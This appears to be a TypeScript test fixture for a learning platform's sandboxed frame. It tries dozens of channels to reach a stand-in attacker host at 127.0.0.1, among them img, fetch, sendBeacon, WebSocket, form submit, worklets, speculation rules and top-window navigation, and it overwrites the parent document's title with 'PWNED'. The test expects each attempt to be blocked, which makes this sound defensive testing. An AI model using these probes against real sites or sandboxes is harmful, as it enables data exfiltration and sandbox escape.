/**
 * Runs on the frame's own thread, where no learner's code ever runs: what an attacker could try who got there.
 * `attacker` is `127.0.0.1:port`, put in front of this text by the test.
 */
import { use } from './use.ts';

declare const attacker: string;

const http = `http://${attacker}`;

function element(name: string, attributes: Record<string, string>): HTMLElement {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  document.documentElement.append(made);
  return made;
}

const probes: Record<string, () => unknown> = {
  image: () => element('img', { src: `${http}/img` }),
  'image set': () => element('img', { srcset: `${http}/srcset 1x` }),
  stylesheet: () => element('link', { rel: 'stylesheet', href: `${http}/css` }),
  style: () => (element('style', {}).textContent = `@import url(${http}/import)`),
  background: () => element('div', { style: `background:url(${http}/background)` }),
  font: () => new FontFace('attack', `url(${http}/font)`).load(),
  prefetch: () => element('link', { rel: 'prefetch', href: `${http}/prefetch` }),
  preload: () => element('link', { rel: 'preload', as: 'script', href: `${http}/preload` }),
  'module preload': () => element('link', { rel: 'modulepreload', href: `${http}/modulepreload` }),
  icon: () => element('link', { rel: 'icon', href: `${http}/icon` }),
  manifest: () => element('link', { rel: 'manifest', href: `${http}/manifest` }),
  script: () => element('script', { src: `${http}/script.js` }),
  frame: () => element('iframe', { src: `${http}/frame` }),
  object: () => element('object', { data: `${http}/object` }),
  embed: () => element('embed', { src: `${http}/embed` }),
  video: () =>
    element('video', { src: `${http}/video`, poster: `${http}/poster`, preload: 'auto' }),
  audio: () => element('audio', { src: `${http}/audio`, preload: 'auto' }),
  track: () => element('track', { src: `${http}/track` }),
  'svg image': () => {
    document.documentElement.insertAdjacentHTML(
      'beforeend',
      `<svg><image href="${http}/svg"/><use href="${http}/use#a"/></svg>`,
    );
  },
  'ping of a link': () => {
    const link = element('a', { href: '#', ping: `${http}/ping` });
    link.click();
  },
  form: () => {
    const form = element('form', { action: `${http}/form`, method: 'post' });
    if (form instanceof HTMLFormElement) form.submit();
  },
  'window.open': () => window.open(`${http}/open`),
  sendBeacon: () => navigator.sendBeacon(`${http}/beacon`, 'x'),
  fetch: () => fetch(`${http}/fetch`),
  fetchLater: () => use('call', 'fetchLater', `${http}/later`, { activateAfter: 0 }),
  XMLHttpRequest: () => {
    const xhr = new XMLHttpRequest();
    xhr.open('GET', `${http}/xhr`);
    xhr.send();
  },
  WebSocket: () => new WebSocket(`ws://${attacker}/websocket`),
  EventSource: () => new EventSource(`${http}/events`),
  worklet: () => use('call', 'CSS.paintWorklet.addModule', `${http}/worklet.js`),
  'speculation rules': () =>
    (element('script', { type: 'speculationrules' }).textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [`${http}/speculation`] }],
    })),
  'navigation of the top window': () => (top as Window).location.assign(`${http}/top`),
  'document of the page': () => (parent.document.title = 'PWNED'),
  'meta refresh': () =>
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${http}/refresh` }),
  link: () => element('a', { href: `${http}/click` }).click(),
  // Last: it ends this document.
  'navigation of the frame': () => location.assign(`${http}/location`),
};

addEventListener('unhandledrejection', (event) => event.preventDefault());
for (const probe of Object.values(probes)) {
  try {
    void Promise.resolve(probe()).catch(() => null);
  } catch {
    // Refused, as it should be.
  }
}
